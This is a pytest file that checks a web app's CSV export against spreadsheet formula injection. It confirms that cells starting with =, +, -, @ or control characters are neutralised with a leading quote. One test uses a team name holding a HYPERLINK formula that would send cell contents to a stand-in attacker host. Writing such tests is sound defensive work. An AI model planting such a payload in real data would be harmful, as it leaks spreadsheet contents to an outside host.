"""CSV exports: a cell never reaches a spreadsheet as a live formula."""

import csv
import io
from datetime import date

import pytest

from app.accounts import service as accounts_service
from app.accounts.models import Role
from app.config import CONTENT_DIR
from app.goals import service as goals_service
from app.web.csvexport import csv_text, safe_cell
from tests.factories import login, make_user


@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\r=1", '=HYPERLINK("http://x")'])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["team-noord", "0.333", "-0.5", "+1", "", 3, -2.5, None, "a=b"])
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_every_cell_of_a_written_csv_is_neutralised():
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [["=1", 2], ["x", "@y"]])), delimiter=";"))
    assert rows == [["a", "b"], ["'=1", "2"], ["x", "'@y"]]


def test_a_team_slug_reaches_doelen_csv_as_text(client, db):
    goals_service.seed(db, goals_service.load_file(CONTENT_DIR / "goals.yaml"), date(2027, 1, 4))
    slug = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
    accounts_service.ensure_team(db, slug, "Team Formule")
    for _ in range(3):
        make_user(db, Role.medewerker, team_slug=slug, function="klantbegeleider")
    login(client, db, make_user(db, Role.kwaliteit))
    response = client.get("/doelen.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text), delimiter=";") for cell in row]
    assert "'" + slug in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
